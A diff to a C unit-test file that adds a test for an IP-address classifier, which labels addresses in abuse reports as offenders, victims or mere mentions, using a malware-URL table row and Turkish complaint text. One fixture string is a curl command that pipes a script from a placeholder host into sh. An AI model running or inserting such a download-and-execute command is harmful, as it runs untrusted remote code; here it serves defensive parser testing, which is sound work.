@@ -116,6 +116,29 @@ static void test_ipscan_port_after_slash(void **state)
 	assert_int_equal(count_in("Our network 198.51.100.0/24."), 0);
 }
 
+/* "URL | sh" pipes a download into a shell: its host is only
+ * mentioned; in a table's row, a later "| sh" is a cell (a tag) after a
+ * border. Turkish names the attackers above their list ("Saldırı yapan
+ * IP'ler:") and the writer's server beside "sitemize". */
+static void test_ipscan_pipe_cell_and_turkish_sides(void **state)
+{
+	const char *row = "URL                    | Status | Tags\n"
+			  "-----------------------+--------+------\n"
+			  "hxxp://192.0.2.7/i.sh  | online | sh,Mirai\n";
+	const char *tr = "Sitemize (shop.example, sunucu IP 198.51.100.9) "
+			 "saldırı var.\nSaldırı yapan IP'ler:\n192.0.2.7\n"
+			 "192.0.2.8\n";
+
+	(void)state;
+	assert_int_equal(hints_of(row, "192.0.2.7"),
+			 HINT(IPSCAN_HINT_OFFENDER));
+	assert_true(
+	    hints_of("curl -fsSL http://192.0.2.9/d.sh | sh", "192.0.2.9") &
+	    HINT(IPSCAN_HINT_MENTIONED));
+	assert_true(hints_of(tr, "198.51.100.9") & HINT(IPSCAN_HINT_VICTIM));
+	assert_true(hints_of(tr, "192.0.2.8") & HINT(IPSCAN_HINT_OFFENDER));
+}
+
 /* Romanian's "cel" is "the" ("cel mai mult de la ADDR": mostly from
  * ADDR); Polish names a target with "cel:" or "cel ataku". After "we are
  * your customers", the address is the writer's own, no customer's that
@@ -2099,6 +2122,7 @@ int main(void)
 	    cmocka_unit_test(test_ipscan_passive_gateway_and_five_languages),
 	    cmocka_unit_test(test_ipscan_tcpdump_flow_ends),
 	    cmocka_unit_test(test_ipscan_port_after_slash),
+	    cmocka_unit_test(test_ipscan_pipe_cell_and_turkish_sides),
 	    cmocka_unit_test(test_ipscan_romanian_cel_and_customer_of_yours),
 	    cmocka_unit_test(
 		test_ipscan_dealt_with_other_network_submitter_own_blog),
